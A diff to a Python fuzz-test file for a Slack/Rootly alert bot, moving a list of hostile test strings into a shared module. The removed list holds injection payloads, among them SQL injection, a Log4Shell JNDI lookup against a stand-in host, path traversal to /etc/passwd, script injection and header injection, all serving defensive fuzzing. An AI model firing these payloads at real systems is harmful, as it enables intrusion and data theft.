@@ -31,6 +31,7 @@ from tests import guarantees
 from tests.conftest import BOT_TOKEN, ROOTLY_TOKEN, BotServer, RunningBot, bot_env
 from tests.fakes.rootly import RootlyFake
 from tests.fakes.slack import SlackFake
+from tests.fuzz_surfaces import NASTY  # the hostile strings of the long fuzz run too
 from tests.test_alert_messages_e2e import WEBHOOK_SECRET, signed_webhook
 from tests.waiting import wait_until
 
@@ -43,37 +44,6 @@ FUZZ = settings(
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
 )
 
-NASTY = [
-    "",
-    " ",
-    "\x00",
-    "\u202e\u200b\ufeff",
-    "😀" * 50,
-    "Ω≈ç√∫˜µ≤≥÷ 田中さん 𝕿𝖊𝖘𝖙",
-    "<!channel>",
-    "<!here|here>",
-    "<@U111>",
-    "<#C111|general>",
-    "<!subteam^S0SRE>",
-    "<https://evil.example/|click me>",
-    "*bold* _it_ ~s~ `code` ```block``` > quote",
-    "'; DROP TABLE outbox; --",
-    '" OR 1=1 --',
-    "{{7*7}} ${7*7} #{7*7}",
-    "${jndi:ldap://evil.example/a}",
-    "../../../../etc/passwd",
-    "<script>alert(1)</script>",
-    "%s%s%s%n %x",
-    "\r\nX-Injected: 1\r\n\r\n",
-    "rootly:",
-    ":",
-    "ref::x",
-    "ilert:abc",
-    "rootly:../../v1/users",
-    "https://rootly.com/account/alerts/../../../v1/incidents",
-    "a" * 4000,
-    "\n" * 500,
-]
 WORDS = [
     "ack",
     "resolve",
